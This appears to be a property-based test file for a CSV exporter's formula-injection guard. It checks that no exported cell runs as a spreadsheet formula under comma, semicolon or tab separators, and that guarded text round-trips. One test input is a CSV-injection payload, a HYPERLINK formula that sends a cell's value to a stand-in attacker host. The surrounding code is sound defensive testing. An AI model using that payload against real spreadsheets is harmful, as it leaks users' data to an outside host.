import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { toCsv } from '#frontend/lib/files.ts';
import { guardFormula, unguardFormula } from '#shared/formula-guard.ts';

const separators = [',', ';', '\t'];

/**
 * The fields as read by a spreadsheet that uses another separator than the file: quotes only count at the
 * beginning of a field, and text after the closing quote belongs to the field too.
 */
function fieldsOf(csv: string, separator: string): string[] {
  const fields = [''];
  let isQuoted = false;
  let isStart = true;
  for (let at = 0; at < csv.length; at += 1) {
    const char = csv.charAt(at);
    const last = fields.length - 1;
    const isEnd = !isQuoted && (char === separator || char === '\r' || char === '\n');
    if (isEnd) fields.push('');
    else if (char === '"' && isStart) isQuoted = true;
    else if (char === '"' && isQuoted && csv.charAt(at + 1) === '"') {
      fields[last] += '"';
      at += 1;
    } else if (char === '"' && isQuoted) isQuoted = false;
    else fields[last] += char;
    isStart = isEnd;
  }
  return fields;
}

/**
 * True if a spreadsheet would run the field as a formula. In any language, it reads full-width signs like
 * plain ones.
 */
const runs = (field: string) => /^[=+\-@]/.test(field.normalize('NFKC'));

const text = fc.string({ unit: fc.constantFrom(...'==+-@＝\t\r\n\'"",;;a 1') });
const rowsOf = fc.array(fc.array(text, { minLength: 3, maxLength: 3 }), { minLength: 1 });
const exported = (rows: string[][]) => toCsv(rows.map((row) => row.map(guardFormula)));

describe('a CSV file', () => {
  it.each([
    'a;=HYPERLINK("http://evil.example/"&A1);b',
    'a\n=1',
    'a\t+1',
    'a,@x',
    'a;"=1"',
    '\t=1',
  ])('runs nothing of %j, whichever separator is taken', async (cell) => {
    const csv = await exported([['x', cell]]);
    const read = [...separators.map((one) => fieldsOf(csv, one)), csv.split(/[,;\t\r\n]/)];
    expect(read.flat().filter(runs)).toEqual([]);
  });

  it('runs no text as a formula, whichever separator is taken, and loses none', async () => {
    await fc.assert(
      fc.asyncProperty(rowsOf, async (rows) => {
        const csv = await exported(rows);
        for (const separator of separators)
          expect(fieldsOf(csv, separator).filter(runs)).toEqual([]);
        expect(csv.split(/[,;\t\r\n]/).filter(runs)).toEqual([]);
        const cells: string[][] = parse(csv);
        expect(cells.map((row) => row.map(unguardFormula))).toEqual(rows);
      }),
      { numRuns: 1000 },
    );
  });
});
